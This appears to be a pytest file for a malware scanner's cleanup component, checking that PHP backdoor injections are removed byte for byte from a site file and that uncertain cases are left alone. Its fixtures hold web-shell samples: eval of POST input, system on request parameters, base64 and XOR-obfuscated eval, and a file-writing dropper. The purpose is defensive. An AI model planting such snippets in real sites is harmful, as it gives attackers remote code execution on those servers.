"""The surgeon gives back the file as it was before the injection, or leaves it alone."""

import hashlib

import pytest

from scanners.cutting.surgeon import Surgeon
from scanners.malware import Malware
from sentry.clock import SystemClock

SITE = b"""<?php
/**
 * A part of a site.
 */

/** Adds. */
function add( $a, $b ) {
\t$sum = $a + $b;
\treturn $sum;
}

/** Takes away. */
function take( $a, $b ) {
\treturn $a - $b;
}
"""
AFTER_ADD = SITE.index(b"/** Takes")
ENCODED = b"c3lzdGVtKCRfR0VUWyd4J10pOw=="
HIDDEN_FUNCTION = b"""function wp_cache_x9($d) {
\t$o = '';
\tfor ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ 7); }
\teval($o);
}
wp_cache_x9($_POST['q']);
"""
DROPPER = b"""if (!empty($_GET['u'])) {
\tfile_put_contents(__DIR__ . '/a.php', $_POST['b']);
\tinclude __DIR__ . '/a.php';
}
"""


def _inserted(injection: bytes) -> bytes:
    return SITE[:AFTER_ADD] + injection + SITE[AFTER_ADD:]


INJECTED = {
    "block before": b'<?php @eval(base64_decode("%s")); ?>' % ENCODED + SITE,
    "block on a line before": b"<?php if(isset($_POST['z'])){@eval($_POST['z']);exit;} ?>\n" + SITE,
    "built name before": b'<?php $k="bas"."e64_de"."code";@eval($k("%s"));?>' % ENCODED + SITE,
    "statement in the first line": SITE.replace(b"<?php\n", b"<?php @eval($_POST['x']);\n", 1),
    "statements behind": SITE + b"if (isset($_COOKIE['p'])) { $f = $_COOKIE['p']; $f($_POST['d']); die(); }\n",
    "block behind": SITE + b"\n?>\n<?php\nif (isset($_REQUEST['c'])) {\n    system($_REQUEST['c']);\n}\n?>\n",
    "statement between": _inserted(b"@eval($_POST['p4ss']);\n"),
    "variables between": _inserted(b"$zz = base64_decode('%s');\neval($zz);\n" % ENCODED),
    "function between": _inserted(HIDDEN_FUNCTION + b"\n"),
    "function with a comment between": _inserted(b"/* cache */\n" + HIDDEN_FUNCTION + b"\n"),
    "dropper between": _inserted(DROPPER + b"\n"),
    "between equal comments": _inserted(b"/*a3f9*/\n@eval($_POST['x']);\n/*a3f9*/\n"),
    "statement within a function": SITE.replace(b"\t$sum =", b"\t@eval($_POST['x']);\n\t$sum ="),
    "callback of a hook": _inserted(b"add_action('init', function () { eval($_POST['x']); });\n"),
    "two at once": b"<?php @eval($_POST['x']); ?>" + _inserted(b"@system($_GET['y']);\n"),
    "lines of Windows": (SITE[:AFTER_ADD] + b"@eval($_POST['x']);\n" + SITE[AFTER_ADD:]).replace(b"\n", b"\r\n"),
}
UNCERTAIN = {
    "within a branch of the site": SITE.replace(
        b"\treturn $a - $b", b"\tif ( $a > 1 ) {\n\t\tlog_it( $a );\n\t\teval($_POST['x']);\n\t}\n\treturn $a - $b"
    ),
    "what the site's code uses": _inserted(b"$shared = base64_decode('%s'); eval($shared);\n" % ENCODED)
    + b"echo $shared;\n",
    "nothing else in the file": b"<?php eval($_POST['x']);\n",
}


@pytest.fixture(scope="module")
def surgeon() -> Surgeon:
    return Surgeon(Malware(), SystemClock())


@pytest.mark.promise("001-41")
@pytest.mark.parametrize("name", INJECTED)
def test_surgeon_injected_file_gives_the_bytes_before(surgeon: Surgeon, name: str) -> None:
    """What is left after the cut is, byte for byte, the file as it was."""
    before = SITE.replace(b"\n", b"\r\n") if name == "lines of Windows" else SITE

    cut = surgeon.cut("wp-includes/part.php", INJECTED[name])

    assert cut.content == before, cut.why


@pytest.mark.parametrize("name", UNCERTAIN)
def test_surgeon_uncertain_injection_leaves_the_file(surgeon: Surgeon, name: str) -> None:
    """Where the injection cannot be told from the site's own code, nothing is cut."""
    cut = surgeon.cut("wp-includes/part.php", UNCERTAIN[name])

    assert cut.content is None
    assert cut.why


def test_surgeon_known_hash_takes_that_cut_only(surgeon: Surgeon) -> None:
    """Where the hash of the published file is known, the cut gives that file or is none."""
    infected = INJECTED["block behind"]
    ours, another = hashlib.sha256(SITE).hexdigest(), hashlib.sha256(b"another version").hexdigest()

    assert surgeon.cut("part.php", infected, ours).content == SITE
    assert surgeon.cut("part.php", infected, another).content is None


def test_surgeon_page_that_is_empty_on_purpose_stays(surgeon: Surgeon) -> None:
    """`Silence is golden` is a site's file, though it does nothing."""
    page = b"<?php\n// Silence is golden.\n"

    for injection in (b"@eval($_POST['x']);\n", b"\n?>\n<?php @eval($_POST['x']); ?>"):
        assert surgeon.cut("wp-content/index.php", page + injection).content == page


def test_surgeon_clean_file_cuts_nothing(surgeon: Surgeon) -> None:
    """In a file in which nothing is found there is nothing to cut."""
    assert surgeon.cut("part.php", SITE).content is None
